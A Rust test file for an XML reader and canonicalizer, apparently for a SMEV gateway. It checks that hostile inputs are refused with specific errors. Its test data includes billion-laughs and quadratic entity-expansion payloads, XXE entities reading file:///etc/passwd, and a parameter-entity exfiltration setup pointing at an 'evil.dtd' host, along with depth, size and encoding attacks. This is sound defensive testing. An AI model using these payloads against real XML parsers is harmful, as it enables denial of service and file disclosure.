//! Hostile input: every attack a gateway facing untrusted senders must survive is refused with
//! its own error variant, without a panic, a stack overflow or unbounded memory. Inputs are
//! sized so each test runs in well under a second in release; there are no timed asserts
//! (speed belongs to the benchmarks), only sizes large enough that a quadratic or recursive
//! implementation would visibly hang or crash.
//!
//! The hostile files under `crates/c14n/tests/data/hostile/` are checked by
//! `hostile_corpus_files_are_refused` below.

use std::path::Path;

use rsmev_c14n::{Algorithm, C14nError, Options, canonicalize_to_vec};
use rsmev_xml::{Event, Limits, Reader, XmlError, check, prepare};

fn err(doc: &[u8]) -> XmlError {
    err_with(doc, &Limits::default())
}

fn err_with(doc: &[u8], limits: &Limits) -> XmlError {
    match check(doc, limits) {
        Ok(()) => panic!(
            "accepted: {:?}",
            String::from_utf8_lossy(&doc[..doc.len().min(200)])
        ),
        Err(e) => e,
    }
}

/// Every canonicalization mode must refuse the document with the same reader error. The SMEV
/// transform may refuse it earlier, at an element in no namespace, as it streams.
fn c14n_refuses(doc: &[u8], limits: &Limits, want: fn(&XmlError) -> bool) {
    for opts in [
        Options::new(Algorithm::C14n10),
        Options::new(Algorithm::C14n11).with_comments(true),
        Options::new(Algorithm::Exclusive),
        Options::new(Algorithm::Exclusive).smev_transform(true),
    ] {
        let opts = opts.limits(limits.clone());
        match canonicalize_to_vec(doc, &opts) {
            Err(C14nError::Xml(e)) if want(&e) => {}
            Err(C14nError::SmevUnqualifiedElement { .. }) if opts.smev_transform => {}
            other => panic!("{:?}: unexpected {other:?}", opts.algorithm),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// DTDs and entities

#[test]
fn billion_laughs_is_refused_at_the_doctype() {
    let doc = br#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"#;
    let e = err(doc);
    assert!(matches!(e, XmlError::Doctype { pos: 22 }), "{e:?}");
    assert_eq!(
        e.fault_code(),
        rsmev_fault::FaultCode::ForbiddenXmlConstruct
    );
    c14n_refuses(doc, &Limits::default(), |e| {
        matches!(e, XmlError::Doctype { .. })
    });
}

#[test]
fn quadratic_blowup_entity_is_refused_at_the_doctype() {
    let mut doc = String::from("<!DOCTYPE r [<!ENTITY a \"");
    doc.push_str(&"x".repeat(100_000));
    doc.push_str("\">]><r>");
    doc.push_str(&"&a;".repeat(10_000));
    doc.push_str("</r>");
    assert!(matches!(err(doc.as_bytes()), XmlError::Doctype { pos: 0 }));
}

#[test]
fn external_entity_is_refused_at_the_doctype() {
    let doc = br#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
<foo>&xxe;</foo>"#;
    assert!(matches!(err(doc), XmlError::Doctype { pos: 39 }));
    c14n_refuses(doc, &Limits::default(), |e| {
        matches!(e, XmlError::Doctype { .. })
    });
    // An external DTD subset alone, without an internal subset.
    let doc = br#"<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo/>"#;
    assert!(matches!(err(doc), XmlError::Doctype { pos: 0 }));
    let doc = br#"<!DOCTYPE foo PUBLIC "-//X//Y" "http://127.0.0.1/evil.dtd"><foo/>"#;
    assert!(matches!(err(doc), XmlError::Doctype { pos: 0 }));
}

#[test]
fn parameter_entities_are_refused_at_the_doctype() {
    let doc = br#"<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % dtd SYSTEM "http://127.0.0.1/evil.dtd">
  %dtd;
  %send;
]>
<data>&exfil;</data>"#;
    assert!(matches!(err(doc), XmlError::Doctype { pos: 22 }));
    c14n_refuses(doc, &Limits::default(), |e| {
        matches!(e, XmlError::Doctype { .. })
    });
}

#[test]
fn doctype_anywhere_is_refused() {
    // Inside the root element and after it too, not only in the prolog.
    assert!(matches!(
        err(b"<a><!DOCTYPE a></a>"),
        XmlError::Doctype { pos: 3 }
    ));
    assert!(matches!(
        err(b"<a/><!DOCTYPE a>"),
        XmlError::Doctype { pos: 4 }
    ));
    assert!(matches!(
        err(b"<!--c--><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>"),
        XmlError::Doctype { pos: 8 }
    ));
}

#[test]
fn undefined_entities_are_refused_without_a_dtd() {
    let e = err(b"<lolz>&lol;</lolz>");
    assert!(
        matches!(&e, XmlError::UndefinedEntity { name, pos: 6 } if name == "lol"),
        "{e:?}"
    );
    assert_eq!(
        e.fault_code(),
        rsmev_fault::FaultCode::ForbiddenXmlConstruct
    );
    // In an attribute value too.
    let e = err(b"<a b='x&xxe;'/>");
    assert!(
        matches!(&e, XmlError::UndefinedEntity { name, .. } if name == "xxe"),
        "{e:?}"
    );
    // A parameter-entity reference outside a DTD is not a reference at all.
    check(b"<a>%pe;</a>", &Limits::default()).unwrap();
    c14n_refuses(b"<lolz>&lol;</lolz>", &Limits::default(), |e| {
        matches!(e, XmlError::UndefinedEntity { .. })
    });
}

// ---------------------------------------------------------------------------------------------
// Depth

fn nested(depth: usize) -> Vec<u8> {
    let mut doc = Vec::with_capacity(depth * 7 + 32);
    doc.extend_from_slice(b"<a xmlns=\"urn:deep\">");
    for _ in 1..depth {
        doc.extend_from_slice(b"<a>");
    }
    doc.extend_from_slice(b"x");
    for _ in 0..depth {
        doc.extend_from_slice(b"</a>");
    }
    doc
}

/// Runs `f` on a thread with a deliberately small stack: a recursive reader or canonicalizer
/// would overflow it long before 100 000 levels.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(f)
        .unwrap()
        .join()
        .unwrap()
}

#[test]
fn deep_nesting_is_refused_with_default_limits() {
    on_small_stack(|| {
        let doc = nested(100_000);
        let e = err(&doc);
        let limit = Limits::default().max_depth;
        assert!(
            matches!(e, XmlError::TooDeep { limit: l, .. } if l == limit),
            "{e:?}"
        );
        c14n_refuses(&doc, &Limits::default(), |e| {
            matches!(e, XmlError::TooDeep { .. })
        });
        // Also when every level is an unclosed start tag only.
        let doc = "<a>".repeat(100_000);
        assert!(matches!(err(doc.as_bytes()), XmlError::TooDeep { .. }));
    });
}

#[test]
fn deep_nesting_within_raised_limits_does_not_overflow_the_stack() {
    on_small_stack(|| {
        let limits = Limits {
            max_depth: 200_000,
            ..Limits::default()
        };
        let doc = nested(100_000);
        check(&doc, &limits).unwrap();
        // The canonical form of this document is the document itself.
        for alg in [Algorithm::C14n10, Algorithm::C14n11, Algorithm::Exclusive] {
            let out = canonicalize_to_vec(&doc, &Options::new(alg).limits(limits.clone())).unwrap();
            assert_eq!(out, doc, "{alg:?}");
        }
        let smev = Options::new(Algorithm::Exclusive)
            .smev_transform(true)
            .limits(limits.clone());
        let out = canonicalize_to_vec(&doc, &smev).unwrap();
        assert!(out.starts_with(b"<ns1:a xmlns:ns1=\"urn:deep\"><ns1:a>"));
        assert!(out.ends_with(b"</ns1:a></ns1:a>"));
        // One past the raised limit is still refused.
        let doc = nested(200_001);
        assert!(matches!(
            err_with(&doc, &limits),
            XmlError::TooDeep { limit: 200_000, .. }
        ));
    });
}

// ---------------------------------------------------------------------------------------------
// Sizes

fn big_attribute(len: usize) -> Vec<u8> {
    let mut doc = Vec::with_capacity(len + 64);
    doc.extend_from_slice(b"<a v=\"");
    // Mostly plain bytes, with a reference and a tab every KiB so the value takes the
    // normalizing (copying) path rather than being borrowed.
    let chunk = [b"&amp;\t".as_slice(), &[b'x'; 1018]].concat();
    while doc.len() + chunk.len() < len + 6 {
        doc.extend_from_slice(&chunk);
    }
    doc.resize(len + 6, b'y');
    doc.extend_from_slice(b"\">t</a>");
    doc
}

#[test]
fn fifty_megabyte_attribute_value_is_refused_by_default() {
    let doc = big_attribute(50 << 20);
    let e = err(&doc);
    assert!(
        matches!(e, XmlError::AttributeValueTooLong { limit, pos: 0 } if limit == Limits::default().max_attr_value_len),
        "{e:?}"
    );
}

#[test]
fn fifty_megabyte_attribute_value_parses_when_allowed() {
    let len = 50 << 20;
    let doc = big_attribute(len);
    let limits = Limits {
        max_attr_value_len: 64 << 20,
        ..Limits::default()
    };
    let src = prepare(&doc, &limits).unwrap();
    let mut r = Reader::new(&src, limits.clone()).track_ids();
    assert_eq!(r.next().unwrap(), Event::Start);
    let v = &r.start_tag().attrs[0].value;
    // `&amp;` (5 bytes) becomes `&` (1 byte).
    let refs = memchr_count(&doc, b'&');
    assert!(refs > 50_000);
    assert_eq!(v.len(), len - 4 * refs);
    assert!(v.starts_with("& x"));
    while r.next().unwrap() != Event::Eof {}
    drop(r);
    drop(src);
    let out =
        canonicalize_to_vec(&doc, &Options::new(Algorithm::Exclusive).limits(limits)).unwrap();
    // `&` → `&amp;`, TAB → `&#x9;` (it was normalized to a space by the reader).
    assert_eq!(out.len(), doc.len());
    assert!(out.starts_with(b"<a v=\"&amp; xxx"));
}

fn memchr_count(hay: &[u8], b: u8) -> usize {
    hay.iter().filter(|&&c| c == b).count()
}

#[test]
fn document_over_max_size_is_refused_before_parsing() {
    // Invalid UTF-8 and a DOCTYPE would each be refused too: size is checked first.
    let limits = Limits {
        max_size: 1000,
        ..Limits::default()
    };
    let mut doc = b"<!DOCTYPE a>\xff".to_vec();
    doc.resize(1001, b' ');
    assert!(matches!(
        err_with(&doc, &limits),
        XmlError::TooLarge {
            size: 1001,
            limit: 1000
        }
    ));
    assert!(check(&doc[..1000], &limits).is_err_and(|e| !matches!(e, XmlError::TooLarge { .. })));
    c14n_refuses(&doc, &limits, |e| matches!(e, XmlError::TooLarge { .. }));
    // The default limit, with a document of nothing but invalid bytes.
    let max = Limits::default().max_size;
    let doc = vec![0xFFu8; max + 1];
    let e = err(&doc);
    assert!(
        matches!(e, XmlError::TooLarge { size, limit } if size == max + 1 && limit == max),
        "{e:?}"
    );
    assert_eq!(e.fault_code(), rsmev_fault::FaultCode::MessageTooLarge);
}

#[test]
fn ten_thousand_attributes_are_refused() {
    let mut doc = String::from("<a");
    for i in 0..10_000 {
        doc.push_str(&format!(" a{i}=\"v\""));
    }
    doc.push_str("/>");
    let limit = Limits::default().max_attributes;
    let e = err(doc.as_bytes());
    assert!(
        matches!(e, XmlError::TooManyAttributes { limit: l, pos: 0 } if l == limit),
        "{e:?}"
    );
    c14n_refuses(doc.as_bytes(), &Limits::default(), |e| {
        matches!(e, XmlError::TooManyAttributes { .. })
    });
    // Exactly at the limit is fine.
    let mut doc = String::from("<a");
    for i in 0..limit {
        doc.push_str(&format!(" a{i}=\"v\""));
    }
    doc.push_str("/>");
    check(doc.as_bytes(), &Limits::default()).unwrap();
}

#[test]
fn hundred_kilobyte_names_are_refused() {
    let name = "n".repeat(100 * 1024);
    let limit = Limits::default().max_name_len;
    let is_name_too_long =
        |e: &XmlError| matches!(e, XmlError::NameTooLong { limit: l, .. } if *l == limit);
    // Element name.
    let doc = format!("<{name}></{name}>");
    let e = err(doc.as_bytes());
    assert!(is_name_too_long(&e), "{e:?}");
    c14n_refuses(doc.as_bytes(), &Limits::default(), |e| {
        matches!(e, XmlError::NameTooLong { .. })
    });
    // Attribute name, prefix, and a nested element's name.
    for doc in [
        format!("<a {name}='v'/>"),
        format!("<a xmlns:{name}='urn:x'/>"),
        format!("<r><{name}/></r>"),
    ] {
        let e = err(doc.as_bytes());
        assert!(is_name_too_long(&e), "{e:?}");
    }
}

#[test]
fn five_thousand_namespace_declarations_are_refused() {
    // On one element: more attributes than allowed.
    let mut doc = String::from("<a");
    for i in 0..5_000 {
        doc.push_str(&format!(" xmlns:p{i}=\"urn:{i}\""));
    }
    doc.push_str("/>");
    let e = err(doc.as_bytes());
    assert!(matches!(e, XmlError::TooManyAttributes { .. }), "{e:?}");
    c14n_refuses(doc.as_bytes(), &Limits::default(), |e| {
        matches!(e, XmlError::TooManyAttributes { .. })
    });
    // Spread over nested elements, each under the attribute limit: too many bindings in scope.
    let mut doc = String::new();
    for level in 0..100 {
        doc.push_str("<a");
        for i in 0..50 {
            doc.push_str(&format!(" xmlns:p{level}_{i}=\"urn:{level}:{i}\""));
        }
        doc.push('>');
    }
    doc.push_str(&"</a>".repeat(100));
    let limit = Limits::default().max_namespace_bindings;
    let e = err(doc.as_bytes());
    assert!(
        matches!(e, XmlError::TooManyNamespaces { limit: l, .. } if l == limit),
        "{e:?}"
    );
    c14n_refuses(doc.as_bytes(), &Limits::default(), |e| {
        matches!(e, XmlError::TooManyNamespaces { .. })
    });
}

/// Many elements each resolving against a full table of bindings: cost is bounded by
/// `max_namespace_bindings` per name, so this stays linear in the document size.
#[test]
fn wide_binding_table_with_many_elements_stays_bounded() {
    let mut doc = String::from("<r xmlns='urn:r'");
    for i in 0..200 {
        doc.push_str(&format!(" xmlns:p{i}=\"urn:{i}\""));
    }
    doc.push('>');
    for _ in 0..20_000 {
        doc.push_str("<p0:e p0:a='1'/>");
    }
    doc.push_str("</r>");
    check(doc.as_bytes(), &Limits::default()).unwrap();
    canonicalize_to_vec(doc.as_bytes(), &Options::new(Algorithm::C14n10)).unwrap();
    canonicalize_to_vec(
        doc.as_bytes(),
        &Options::new(Algorithm::Exclusive).smev_transform(true),
    )
    .unwrap();
}

// ---------------------------------------------------------------------------------------------
// Truncation

/// A realistic SMEV 3 request envelope, about 2 KB, with everything the reader handles:
/// XML declaration, comments, namespaces and redeclarations, Cyrillic text and attribute values,
/// entity and character references, CDATA, a PI, an empty element, and trailing whitespace.
const ENVELOPE: &str = r##"<?xml version="1.0" encoding="UTF-8"?>
<!-- запрос в СМЭВ 3 -->
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ns="urn://x-artefacts-smev-gov-ru/services/message-exchange/types/1.1">
  <soap:Header/>
  <soap:Body>
    <ns:SendRequestRequest xmlns:basic="urn://x-artefacts-smev-gov-ru/services/message-exchange/types/basic/1.1">
      <ns:SenderProvidedRequestData Id="SIGNED_BY_CONSUMER">
        <ns:MessageID>db0486d0-3c08-11e5-95e2-d4c9eff07b77</ns:MessageID>
        <basic:MessagePrimaryContent>
          <req:BreachRequest xmlns:req="urn://x-artefacts-gibdd-gov-ru/breach/root/1.0" xmlns:c="urn://x-artefacts-gibdd-gov-ru/breach/commons/1.0" Id="PERSONAL_SIGNATURE">
            <req:RequestedInformation c:kind='номер &amp; серия' c:note="a&#9;b &lt; &#x410;">
              <c:RegPointNum>Т785ЕС57</c:RegPointNum>
            </req:RequestedInformation>
            <req:Governance>
              <c:Name>ГИБДД РФ &quot;Москва&quot; &#1071;</c:Name>
              <c:Code>GIBDD</c:Code>
              <c:Comment><![CDATA[<примечание> & "кавычки" ]]></c:Comment>
              <?audit level="1"?>
              <c:OfficialPerson xmlns="urn://x-artefacts-smev-gov-ru/supplementary/commons/1.0.1">
                <FamilyName>Загурский</FamilyName>
                <FirstName>Андрей</FirstName>
                <Patronymic xmlns="">Петрович</Patronymic>
                <Empty attr=""/>
              </c:OfficialPerson>
            </req:Governance>
          </req:BreachRequest>
        </basic:MessagePrimaryContent>
        <ns:TestMessage/>
      </ns:SenderProvidedRequestData>
      <ns:CallerInformationSystemSignature>
        <ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:Reference URI="#SIGNED_BY_CONSUMER"><ds:DigestValue>YWJjZGVm</ds:DigestValue></ds:Reference></ds:SignedInfo></ds:Signature>
      </ns:CallerInformationSystemSignature>
    </ns:SendRequestRequest>
  </soap:Body>
</soap:Envelope>
<!-- конец -->
"##;

#[test]
fn envelope_is_accepted_whole() {
    assert!((1800..2600).contains(&ENVELOPE.len()), "{}", ENVELOPE.len());
    check(ENVELOPE.as_bytes(), &Limits::default()).unwrap();
    for alg in [Algorithm::C14n10, Algorithm::C14n11, Algorithm::Exclusive] {
        canonicalize_to_vec(ENVELOPE.as_bytes(), &Options::new(alg)).unwrap();
    }
}

#[test]
fn every_truncation_of_an_envelope_is_refused() {
    let doc = ENVELOPE.as_bytes();
    // The document is complete from the end of the root's end tag on, except inside the
    // trailing comment.
    let root_end = ENVELOPE.find("</soap:Envelope>").unwrap() + "</soap:Envelope>".len();
    let comment = ENVELOPE.rfind("<!--").unwrap();
    let comment_end = ENVELOPE.rfind("-->").unwrap() + 3;
    let complete = |n: usize| (root_end..=comment).contains(&n) || n >= comment_end;
    let mut kinds = std::collections::BTreeMap::<&str, usize>::new();
    for n in 0..=doc.len() {
        let prefix = &doc[..n];
        let got = check(prefix, &Limits::default());
        if complete(n) {
            assert!(got.is_ok(), "prefix of {n} bytes: {got:?}");
            continue;
        }
        let e = got.expect_err(&format!("prefix of {n} bytes accepted"));
        let kind = match &e {
            XmlError::Truncated { .. } => "Truncated",
            XmlError::Structure { .. } => "Structure",
            XmlError::Syntax { .. } => "Syntax",
            XmlError::MalformedAttribute { .. } => "MalformedAttribute",
            // A cut inside a multi-byte character: the offset is where that character began.
            XmlError::InvalidUtf8 { pos } => {
                assert!(*pos < n && n - pos < 4, "prefix of {n} bytes: {e:?}");
                assert!(std::str::from_utf8(&doc[..*pos]).is_ok());
                "InvalidUtf8"
            }
            other => panic!("prefix of {n} bytes: unexpected {other:?}"),
        };
        *kinds.entry(kind).or_default() += 1;
        // Canonicalization refuses the same prefix with the same error.
        for opts in [
            Options::new(Algorithm::C14n10),
            Options::new(Algorithm::Exclusive).subset("SIGNED_BY_CONSUMER"),
        ] {
            match canonicalize_to_vec(prefix, &opts) {
                Err(C14nError::Xml(ce)) => assert_eq!(ce, e, "prefix of {n} bytes"),
                // In subset mode the Id is looked for only once the document has been read.
                other => panic!("prefix of {n} bytes: {other:?}"),
            }
        }
    }
    // Most cuts land in an open element.
    assert!(kinds["Truncated"] > doc.len() / 2, "{kinds:?}");
}

#[test]
fn every_truncation_of_a_minimal_document_is_refused() {
    let doc = b"<?xml version='1.0'?><a:r xmlns:a='urn:a' b='&amp;'>x&lt;<![CDATA[y]]><!--c--><?p d?></a:r>";
    for n in 0..doc.len() {
        let e = err(&doc[..n]);
        assert!(
            matches!(
                e,
                XmlError::Truncated { .. }
                    | XmlError::Structure { .. }
                    | XmlError::Syntax { .. }
                    | XmlError::MalformedAttribute { .. }
            ),
            "{n}: {e:?}"
        );
    }
    check(doc, &Limits::default()).unwrap();
}

// ---------------------------------------------------------------------------------------------
// Encodings

#[test]
fn invalid_utf8_is_refused_at_its_offset() {
    let cases: &[(&[u8], usize)] = &[
        (b"\xff<a/>", 0),
        (b"<a>\x80</a>", 3),
        (b"<a>ok\xd0</a>", 5),           // lead byte without its continuation
        (b"<a>\xd0\x90\xd0</a>", 5),     // after a valid Cyrillic letter
        (b"<a b='\xe2\x82'/>", 6),       // 3-byte sequence cut short
        (b"<a>\xed\xa0\x80</a>", 3),     // UTF-16 surrogate U+D800 encoded as UTF-8
        (b"<a>\xf4\x90\x80\x80</a>", 3), // above U+10FFFF
        (b"<a>\xf5\x80\x80\x80</a>", 3), // invalid lead byte
        (b"<\xfea/>", 1),
        (b"<a/><!-- \xc3 -->", 9),       // in a trailing comment
        (b"\xEF\xBB\xBF<a>\x80</a>", 6), // offsets count the BOM
    ];
    for &(doc, pos) in cases {
        let e = err(doc);
        assert_eq!(e, XmlError::InvalidUtf8 { pos }, "{doc:?}");
        c14n_refuses(doc, &Limits::default(), |e| {
            matches!(e, XmlError::InvalidUtf8 { .. })
        });
    }
    // Deep into a large document.
    let mut doc = format!("<a>{}", "я".repeat(100_000)).into_bytes();
    let at = doc.len();
    doc.extend_from_slice(b"\xd1</a>");
    assert_eq!(err(&doc), XmlError::InvalidUtf8 { pos: at });
}

#[test]
fn overlong_utf8_encodings_are_refused() {
    let cases: &[(&[u8], usize)] = &[
        (b"<a>\xc0\xbc</a>", 3), // `<` in two bytes
        (b"<a>\xc1\xbf</a>", 3),
        (b"<a>\xe0\x80\xbc</a>", 3),     // `<` in three bytes
        (b"<a>\xf0\x80\x80\xbc</a>", 3), // `<` in four bytes
        (b"<a>\xc0\x80</a>", 3),         // "modified UTF-8" NUL
        (b"<a b='\xc0\xa2'/>", 6),       // `"` in two bytes inside a value
        (b"<a>\xe0\x9f\xbf</a>", 3),     // U+07FF in three bytes
        (b"<a>\xf0\x8f\xbf\xbf</a>", 3), // U+FFFF in four bytes
        (b"<\xc0\xafa/>", 1),            // `/` in two bytes in a name
    ];
    for &(doc, pos) in cases {
        assert_eq!(err(doc), XmlError::InvalidUtf8 { pos }, "{doc:?}");
    }
}

#[test]
fn utf16_is_refused() {
    let utf16 = |bom: &[u8], be: bool| {
        let mut v = bom.to_vec();
        for u in "<a>я</a>".encode_utf16() {
            v.extend_from_slice(&if be { u.to_be_bytes() } else { u.to_le_bytes() });
        }
        v
    };
    for doc in [utf16(b"\xFE\xFF", true), utf16(b"\xFF\xFE", false)] {
        let e = err(&doc);
        assert!(
            matches!(&e, XmlError::UnsupportedEncoding { encoding } if encoding == "UTF-16"),
            "{e:?}"
        );
        c14n_refuses(&doc, &Limits::default(), |e| {
            matches!(e, XmlError::UnsupportedEncoding { .. })
        });
    }
    // Without a BOM, the NUL bytes are what gives UTF-16 away.
    assert_eq!(
        err(&utf16(b"", false)),
        XmlError::ForbiddenChar { code: 0, pos: 1 }
    );
    assert_eq!(
        err(&utf16(b"", true)),
        XmlError::ForbiddenChar { code: 0, pos: 0 }
    );
    // Declared encodings other than UTF-8.
    for enc in ["UTF-16", "ISO-8859-1", "windows-1251", "UTF-7"] {
        let doc = format!("<?xml version=\"1.0\" encoding=\"{enc}\"?><a/>");
        let e = err(doc.as_bytes());
        assert!(
            matches!(&e, XmlError::UnsupportedEncoding { encoding } if encoding == enc),
            "{e:?}"
        );
    }
    // A UTF-8 BOM is fine.
    check(b"\xEF\xBB\xBF<a/>", &Limits::default()).unwrap();
}

#[test]
fn forbidden_characters_and_references_are_refused() {
    assert_eq!(
        err(b"<a>\x00</a>"),
        XmlError::ForbiddenChar { code: 0, pos: 3 }
    );
    assert_eq!(
        err(b"<a b='\x1b'/>"),
        XmlError::ForbiddenChar { code: 0x1b, pos: 6 }
    );
    for r in [
        "&#0;",
        "&#x0;",
        "&#xD800;",
        "&#xFFFE;",
        "&#x110000;",
        "&#99999999999;",
    ] {
        let doc = format!("<a>{r}</a>");
        assert!(
            matches!(err(doc.as_bytes()), XmlError::InvalidCharRef { pos: 3, .. }),
            "{r}"
        );
        let doc = format!("<a b='{r}'/>");
        assert!(
            matches!(err(doc.as_bytes()), XmlError::InvalidCharRef { .. }),
            "{r}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile files written for the conformance suite

#[test]
fn hostile_corpus_files_are_refused() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../c14n/tests/data/hostile");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        eprintln!("no hostile corpus at {}", dir.display());
        return;
    };
    let mut n = 0;
    for entry in entries {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "xml") {
            continue;
        }
        let doc = std::fs::read(&path).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let got = check(&doc, &Limits::default());
        let e = got.expect_err(&name);
        let want = expected_error(&name);
        assert!(want(&e), "{name}: {e:?}");
        n += 1;
    }
    assert!(n > 0, "no .xml files in {}", dir.display());
}

/// The error each hostile file must produce, by its name.
fn expected_error(name: &str) -> fn(&XmlError) -> bool {
    if name.contains("with-dtd") {
        |e| matches!(e, XmlError::Doctype { .. })
    } else if name.contains("iso-8859-1") || name.contains("utf-16") {
        |e| matches!(e, XmlError::UnsupportedEncoding { .. })
    } else {
        |_| true
    }
}
